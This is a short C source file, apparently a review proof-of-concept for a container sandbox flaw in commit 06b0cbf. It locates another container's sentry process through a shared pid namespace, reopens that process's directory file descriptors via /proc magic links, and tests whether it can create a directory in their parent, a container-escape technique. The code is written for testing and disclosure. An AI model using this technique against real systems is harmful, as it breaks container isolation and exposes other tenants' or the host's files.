// sentryfds: run in a container that shares another container's pid
// namespace and holds CAP_SYS_PTRACE. It finds the other container's
// sentry (serving from inside that namespace), lists its fds through
// /proc/<sentry>/fd, re-opens each directory among them through the magic
// link, and tries to create and remove a directory in its parent
// ("<target>/.."). One line per step on stdout:
//   sentry PID | fd N TARGET | reopened N TARGET | parent-mkdir N ok|ERR
//
// Review PoC for 06b0cbf (sentryPlace looks at the container's own
// capabilities only, not at the others that share its pid namespace).
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "findsentry.h"

int main(void) {
	int s = find_sentry();
	printf("sentry %d\n", s);
	if (s <= 0)
		return 0;
	for (int fd = 0; fd < 1024; fd++) {
		char p[64], l[512];
		snprintf(p, sizeof p, "/proc/%d/fd/%d", s, fd);
		ssize_t n = readlink(p, l, sizeof l - 1);
		if (n < 0)
			continue;
		l[n] = 0;
		printf("fd %d %s\n", fd, l);
		if (l[0] != '/' || !strcmp(l, "/"))
			continue;
		int dir = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (dir < 0)
			continue;
		printf("reopened %d %s\n", fd, l);
		int parent = openat(dir, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (parent >= 0) {
			char name[64];
			snprintf(name, sizeof name, "syscage-review-poc-%d", getpid());
			if (mkdirat(parent, name, 0755) == 0) {
				printf("parent-mkdir %d ok\n", fd);
				unlinkat(parent, name, AT_REMOVEDIR);
			} else {
				printf("parent-mkdir %d %s\n", fd, strerror(errno));
			}
			close(parent);
		}
		close(dir);
	}
	return 0;
}
